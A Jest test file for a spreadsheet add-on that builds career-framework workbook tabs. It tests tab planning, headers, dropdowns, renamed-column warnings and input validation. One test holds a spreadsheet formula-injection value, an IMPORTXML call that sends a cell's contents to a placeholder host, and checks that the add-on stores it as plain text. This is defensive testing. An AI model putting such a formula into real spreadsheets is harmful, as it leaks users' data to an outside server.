import { describe, expect, test } from '@jest/globals';
import type { SetupChoice } from '../../src/core/setup/setup-tables.ts';
import { ask, blank, checked, setUp } from './set-up-steps.ts';
import { openCompany, rename, sheetId, shown, TABLES, tabNames, type } from './small-company.ts';

const ENGINEERING: SetupChoice = { size: 'Growth', families: ['Engineering'] };

test('the dialog is one file with the sidebar', () => {
  expect(blank().run('setUpWorkbook')).toMatchObject({
    kind: 'done',
    shown: [{ kind: 'dialog', title: 'Set up workbook', html: expect.stringContaining('data-view="setup"') }],
  });
});

describe('an empty workbook', () => {
  test('is planned small, without anything being written', () => {
    const host = blank();
    const { tabs } = setUp(host, ENGINEERING, 'sidebarPlanTables');
    expect(tabs.map(({ tab }) => tab)).toEqual([
      'Levels',
      'Competencies',
      'Matrix',
      'Criteria',
      'Paths',
      'People',
      'Cycles',
      'Ratings – Engineering',
      'Evidence',
      'Sign-offs',
      'Settings',
    ]);
    expect(tabs.every(({ state }) => state === 'new')).toBe(true);
    expect(tabNames(host)).toEqual(['Sheet1']);
  });

  test('becomes a workbook that our own checks find nothing to fix in', async () => {
    const host = blank();
    setUp(host, ENGINEERING);
    const check = await checked(host);
    expect({ ...check.counts, info: 0 }).toEqual({ error: 0, warn: 0, info: 0 });
    expect(check.levels).toBe(11);
  });

  test('gets headers with notes, frozen, and dropdowns that point at the other tabs', () => {
    const host = blank();
    setUp(host, ENGINEERING);
    const { getters } = host.model;
    const people = getters.getSheetIdByName('People') ?? '';
    expect(shown(host, 'People')[0]).toEqual([
      'Employee ID',
      'Name',
      'Email',
      'Job family',
      'Level',
      'Title',
      'Manager ID',
      'In level since',
      'Target level',
      'Left on',
    ]);
    expect(getters.getPaneDivisions(people)).toMatchObject({ ySplit: 1 });
    expect(host.export().beside.notes[people]?.['A1']).toBe('Unique for each person.');
    const rule = getters.getValidationRuleForCell({ sheetId: people, col: 4, row: 1 });
    expect(rule?.criterion).toMatchObject({ type: 'isValueInRange' });
    expect(rule?.isBlocking ?? false).toBe(false);
    expect(getters.getNamedRanges().map(({ name }) => name)).toEqual(
      expect.arrayContaining(['PEOPLE', 'RATINGS_ENGINEERING']),
    );
    const { protections } = host.export().beside;
    expect(protections).toHaveLength(tabNames(host).length - 1);
    expect(protections.every(({ warningOnly }) => warningOnly)).toBe(true);
  });

  test('answers the formula of the README, with the names of its tables', () => {
    const host = blank();
    setUp(host, ENGINEERING);
    for (const [cell, content] of [
      ['A2', 'E1'],
      ['B2', 'Ana Silva'],
      ['D2', 'Engineering'],
      ['E2', 'IC1'],
    ] as const) {
      type(host, 'People', cell, content);
    }
    const names =
      'PEOPLE, RATINGS_ENGINEERING, LEVELS, COMPETENCIES, CRITERIA, PATHS, CYCLES, EVIDENCE, SIGN_OFFS, SETTINGS';
    type(host, 'Settings', 'A40', `=READINESS_STATUS("E1", "", ${names})`);
    expect(shown(host, 'Settings')[39]?.[0]).toBe('Not yet');
  });

  test('looks the name up beside an ID', () => {
    const host = blank();
    setUp(host, ENGINEERING);
    type(host, 'People', 'A2', "'007");
    type(host, 'People', 'B2', 'Ana Silva');
    type(host, 'Ratings – Engineering', 'B2', "'007");
    expect(shown(host, 'Ratings – Engineering')[1]?.[2]).toBe('Ana Silva');
  });
});

test('further tabs are made when they are asked for, with a row for each thing they are about', () => {
  const host = blank();
  setUp(host, ENGINEERING);
  const { tabs } = setUp(host, { ...ENGINEERING, further: ['Required ratings', 'Job families', 'Reviewers', 'Paths'] });
  expect(tabs.filter(({ state }) => state !== 'keep')).toMatchObject([
    { tab: 'Required ratings', state: 'new', rows: 14 },
    { tab: 'Job families', state: 'new', rows: 1 },
    { tab: 'Reviewers', state: 'new', rows: 0 },
  ]);
  expect(shown(host, 'Job families')[1]?.slice(0, 3)).toEqual(['Engineering', 'Template', 'Engineering']);
  expect(shown(host, 'Required ratings')[0]?.slice(0, 3)).toEqual(['Job family', 'Required rating for', 'IC1']);
});

describe('a workbook that has tabs already', () => {
  test('keeps what a family has, and gets the tabs that are missing', () => {
    const host = openCompany({
      Levels: [
        ['Job family', 'Track', 'Level', 'Title', 'Order'],
        ['Sales', 'IC', 's1', 'Seller', 1],
        ['Sales', 'IC', 'S2', 'Senior seller', 2],
      ],
    });
    const before = ['Levels', 'Competencies', 'Matrix', 'Criteria'].map((tab) => shown(host, tab));
    const { tabs } = setUp(host, { size: 'Growth', families: ['Sales'] });
    const kept = ['Levels', 'Competencies', 'Matrix', 'Criteria', 'People', 'Cycles'];
    expect(tabs.filter(({ state }) => state === 'keep').map(({ tab }) => tab)).toEqual(kept);
    expect(tabs.filter(({ state }) => state === 'new').map(({ tab }) => tab)).toEqual([
      'Ratings – Sales',
      'Evidence',
      'Sign-offs',
      'Settings',
    ]);
    expect(['Levels', 'Competencies', 'Matrix', 'Criteria'].map((tab) => shown(host, tab))).toEqual(before);
  });

  test('gets a second family below the first, and columns for its levels', async () => {
    const host = openCompany();
    const [levels = [], matrix = []] = [TABLES['Levels'], TABLES['Matrix']];
    const { tabs } = setUp(host, ENGINEERING);
    expect(tabs.find(({ tab }) => tab === 'Levels')).toMatchObject({ state: 'add', rows: 11 });
    for (const [tab, rows] of [
      ['Levels', levels],
      ['Matrix', matrix],
    ] as const) {
      const same = shown(host, tab).slice(0, rows.length);
      expect(same.map((row) => row.slice(0, rows[0]?.length))).toEqual(rows.map((row) => row.map(String)));
    }
    expect(shown(host, 'Matrix')[0]?.slice(0, 5)).toEqual(['Job family', 'Competency', 'S1', 'S2', 'IC1']);
    const check = await checked(host);
    const groups = check.tabs.flatMap((tab) => tab.groups).filter(({ severity }) => severity !== 'info');
    expect(check.families).toEqual(['Sales', 'Engineering']);
    expect(groups.flatMap(({ items }) => items).filter(({ message }) => message.startsWith('Engineering'))).toEqual([]);
  });

  test('gets nothing for a family whose levels have other codes, and is told', () => {
    const host = openCompany();
    const { leftOut } = setUp(host, { size: 'Growth', families: ['Sales', 'Design'] }, 'sidebarPlanTables');
    expect(leftOut).toEqual([]);
    const other = openCompany({
      Levels: [
        ['Job family', 'Track', 'Level', 'Title', 'Order'],
        ['Sales', '', 'X9', 'X', 1],
      ],
    });
    expect(setUp(other, { size: 'Growth', families: ['Sales', 'Design'] }, 'sidebarPlanTables').leftOut).toEqual([
      'Sales',
    ]);
  });

  test('is left alone when it is set up a second time', () => {
    const host = blank();
    setUp(host, ENGINEERING);
    type(host, 'Levels', 'D2', 'Our own title');
    const names = tabNames(host);
    const { tabs } = setUp(host, ENGINEERING);
    expect(tabs.every(({ state }) => state === 'keep')).toBe(true);
    expect(tabNames(host)).toEqual(names);
    expect(shown(host, 'Levels')[1]?.[3]).toBe('Our own title');
  });

  test('is recognised whatever its tabs are called, once it was set up', async () => {
    const host = blank();
    setUp(host, ENGINEERING);
    const before = await checked(host);
    for (const tab of ['Levels', 'Matrix', 'Ratings – Engineering', 'Criteria']) rename(host, tab, `Our ${tab}`);
    const after = await checked(host);
    // Each check has a function of its own, which says what its findings are known by.
    const { identify } = before;
    expect({ ...after, tabs: [], identify }).toEqual({ ...before, tabs: [] });
    expect(setUp(host, ENGINEERING).tabs.every(({ state }) => state === 'keep')).toBe(true);
  });
});

test('a column that was renamed since is named, an optional one too', async () => {
  const host = blank();
  setUp(host, ENGINEERING);
  type(host, 'People', 'H1', 'Promoted on');
  const { tabs } = await checked(host);
  const groups = tabs.find(({ tab }) => tab === 'People')?.groups.filter(({ rule }) => rule.id === 'column-renamed');
  expect(groups?.flatMap(({ items }) => items)).toEqual([
    {
      cell: 'H1',
      message:
        '“Promoted on” in H1 has come where “In level since” was when the tab was set up, and nothing reads it. Type “In level since” again if that is meant.',
    },
  ]);
});

test('text that arrives from a window never becomes a formula, in a column of dates neither', () => {
  const host = blank();
  const formula = '=IMPORTXML("http://x/"&A1)';
  const rows = [
    ['Job family', 'Stage', 'Last reviewed', formula],
    ['Sales', '+1', formula, '3/4'],
    ['@Support', 'Template', '2026-09-30', '00123'],
  ];
  ask(host, 'sidebarAddTables', { tables: [{ kind: 'Job families', tab: 'Job families', rows }] });
  const { getters } = host.model;
  const id = sheetId(host, 'Job families');
  const cells = rows.map((row, at) => row.map((_cell, col) => getters.getEvaluatedCell({ sheetId: id, col, row: at })));
  expect(cells.map((row) => row.map(({ formattedValue }) => formattedValue))).toEqual(rows);
  expect(
    rows.flatMap((row, at) => row.filter((_cell, col) => getters.getCell({ sheetId: id, col, row: at })?.isFormula)),
  ).toEqual([]);
  expect(cells[2]?.[2]?.type).toBe('number');
});

const LEVELS = { kind: 'Levels', tab: 'Levels', rows: [['Job family', 'Track', 'Level', 'Title', 'Order']] };

test.each([
  ['nothing', null, 'There is nothing to add. Choose what the workbook is to have.'],
  ['no table', { tables: [] }, 'There is nothing to add. Choose what the workbook is to have.'],
  ['a kind there is not', { tables: [{ ...LEVELS, kind: 'Gap' }] }, '“Gap” is no kind of table of Career Framework.'],
  ['another tab', { tables: [{ ...LEVELS, tab: 'Salaries' }] }, '“Salaries” is no name for a tab of Levels.'],
  [
    'a missing column',
    { tables: [{ ...LEVELS, rows: [['Job family']] }] },
    'The table Levels has no column Track, Level, Title and Order.',
  ],
  [
    'a text that no cell can hold',
    { tables: [{ ...LEVELS, rows: [...LEVELS.rows, ['x'.repeat(50_001)]] }] },
    'A text is longer than the 50000 characters that a cell can hold. Shorten it, then try again.',
  ],
])('%s is not added, and a sentence says why', (_name, request, message) => {
  const host = blank();
  for (const call of ['sidebarPlanTables', 'sidebarAddTables']) {
    expect(host.rpc(call, [request])).toMatchObject({ ok: true, value: { ok: false, message } });
  }
  expect(tabNames(host)).toEqual(['Sheet1']);
});
